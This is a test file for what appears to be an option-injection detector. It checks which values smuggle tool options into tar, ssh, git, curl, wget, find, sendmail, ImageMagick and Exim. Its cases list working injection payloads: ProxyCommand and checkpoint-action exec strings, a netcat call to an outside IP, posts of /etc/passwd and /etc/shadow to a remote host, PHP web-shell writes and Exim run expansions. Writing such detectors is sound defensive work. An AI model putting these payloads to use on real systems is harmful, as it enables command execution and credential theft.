import { describe, expect, test } from "bun:test";
import { optionInjectionAnalyzer } from "../../../src/detect/analyzers/option-injection.ts";
import { junk, strength, strongest } from "./helpers.ts";

const s = (text: string) => strength(optionInjectionAnalyzer, text, { name: "file" });

describe("option-injection analyzer: a value that is a tool's options", () => {
  test("options that make a tool run a program", () => {
    for (const v of [
      "--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"',
      "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id",
      // a blank for `=`, getopt_long's abbreviations, an interpreter for -e
      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e 'python -c import os'", "-e sh", "-e sh -v", "-c protocol.ext.allow=always", "--exec=id", "--exec /bin/sh -c id", "-e /bin/sh", "-e/usr/bin/bash", "x -exec id ;", "10.0.0.1 4444 -e /bin/sh", "-e cmd.exe", "-c /bin/sh", '--sh-exec "/bin/sh"',
      // the shell's separator spelled out between the options
      "--checkpoint=1$IFS$9--checkpoint-action=exec=sh$IFS$9shell.sh", "--checkpoint=1${IFS}--checkpoint-action=exec=sh",
    ]) {
      expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
      expect(s(v)).toBe(0.9);
    }
  });

  test("options that send a local file away or write one into a web root or system directory", () => {
    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "--post-file /etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-d @/etc/passwd http://x/", "--data-binary @/etc/passwd", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/", "-T/etc/passwd http://x/", "--config=/tmp/upload-7.txt", "-K /var/tmp/a http://x/", "--config '/tmp/x'"]) {
      expect([v, s(v)]).toEqual([v, 0.85]);
    }
  });

  test("a value that opens with a tool's own name is a command line quoted (help text, a forum), the shell analyzer's", () => {
    for (const v of ['git -c core.sshCommand="ssh -i ~/.ssh/key" clone x', "tar --use-compress-program=pigz -cf b.tgz data", 'rsync --rsh="ssh -p 2222" ./a/ b:/srv/', 'ssh -o ProxyCommand="ssh -W %h:%p bastion" app01', "/usr/bin/git -c core.pager=less log"]) {
      expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
    }
  });

  test("options after the one token a tool was given: sendmail's address, find's name", () => {
    expect(strongest(optionInjectionAnalyzer, "a@b.c -X/var/www/html/x.php -OQueueDirectory=/tmp")?.rule).toBe("options.moves-file");
    expect(strongest(optionInjectionAnalyzer, "-write /var/www/html/x.php")?.rule).toBe("options.moves-file");
  });

  test("more tools' options that run a program or write a file: tar's -I, git grep's pager, wget's askpass, find's -fprint", () => {
    for (const v of ["-I 'sh -c id'", "-I /bin/bash x.tgz", "--open-files-in-pager=id", "--use-askpass=/tmp/x"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
    for (const v of ["-fprint /var/www/html/x.php", "-fls /var/www/x"]) expect([v, s(v)]).toEqual([v, 0.85]);
    for (const v of ["-I include/", "--scripts", "-Ishared", "--script=default", "--config /etc/app/config.yaml"]) expect([v, s(v)]).toEqual([v, 0]);
    expect(s("-K /var/www/html/uploads/a.txt http://x/")).toBe(0.85);
  });

  test("a tool's own syntax for running a program or reading a file: git's ext::, ImageMagick's coders, Ghostscript's %pipe%", () => {
    for (const v of ["ext::sh -c id% >&2", "caption:@/etc/passwd", "caption:@../../etc/passwd", "label:@/var/www/.env", "msl:/tmp/x.msl", "%!PS\n/OutputFile (%pipe%id) def"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.tool-syntax"]);
    for (const v of ["text: hello", "label: 42", "ext:: ", "message: caption:@me see you", "IDE: ext::x", "50%pipe", "ephemeral:true", "msl:3500ft"]) expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
  });
  test("an SSH URL whose host starts with `-` is ssh's option (CVE-2017-1000117); a host never starts so", () => {
    for (const v of ["ssh://-oProxyCommand=id/x", "git+ssh://-oProxyCommand=touch%20/tmp/x/repo", "svn+ssh://-oProxyCommand=id/r"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.tool-syntax"]);
    for (const v of ["ssh://git@github.com/x/y.git", "https://-example.com/", "ssh://host/-oProxyCommand"]) expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
  });

  test("Exim's expansion that runs a program, wherever it stands", () => {
    for (const v of ["${run{/bin/sh -c 'id'}}", "-be ${run{/bin/bash -c id}}", "x@y.z ${RUN {/usr/bin/id}}", "${readfile{/etc/passwd}}", "${ run{/bin/id}}"]) expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.exim-run"]);
    for (const v of ["${running}", "${runtime.version}", "run{x}"]) expect([v, strongest(optionInjectionAnalyzer, v)]).toEqual([v, null]);
  });

  test("sort keys, negative numbers, flags and options quoted in prose are nothing", () => {
    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt", "-exec is find's option to run a command", "-o /tmp/report.pdf", "-e sh option meaning", "-c core.editor=vim", "--exec", "--execution-mode=fast", "--exec-path=/usr/lib/git-core", "foo -exec", "name -x", "room 101 -e sh option", "Use find with -exec rm {} \\; to delete"]) expect([v, s(v)]).toEqual([v, 0]);
    // A Markdown list, a rule, a signature; options after a line break or after `--`.
    for (const v of ["- Clean old logs: use find with -exec rm {} \\; to delete them\n- Rotate weekly", "- Step 1: download the file with curl -o /var/www/x", "--- \n-e sh", "-v\n--upload-pack=x", "-v -- --upload-pack=x"]) expect([v, s(v)]).toEqual([v, 0]);
    expect(optionInjectionAnalyzer.analyze({ text: "/a/--upload-pack=x", location: "path", path: "path", name: "", kind: "path" })).toEqual([]);
  });

  test("binary junk and a long value: a correct answer, no throw", () => {
    expect(s(junk(100_000))).toBe(0);
    expect(s(`-${"a ".repeat(500_000)}`)).toBe(0);
    // Blanks after an option that needs a word: one pass, not one a blank.
    expect(s(`-TT${" ".repeat(200_000)}`)).toBe(0);
  });
});
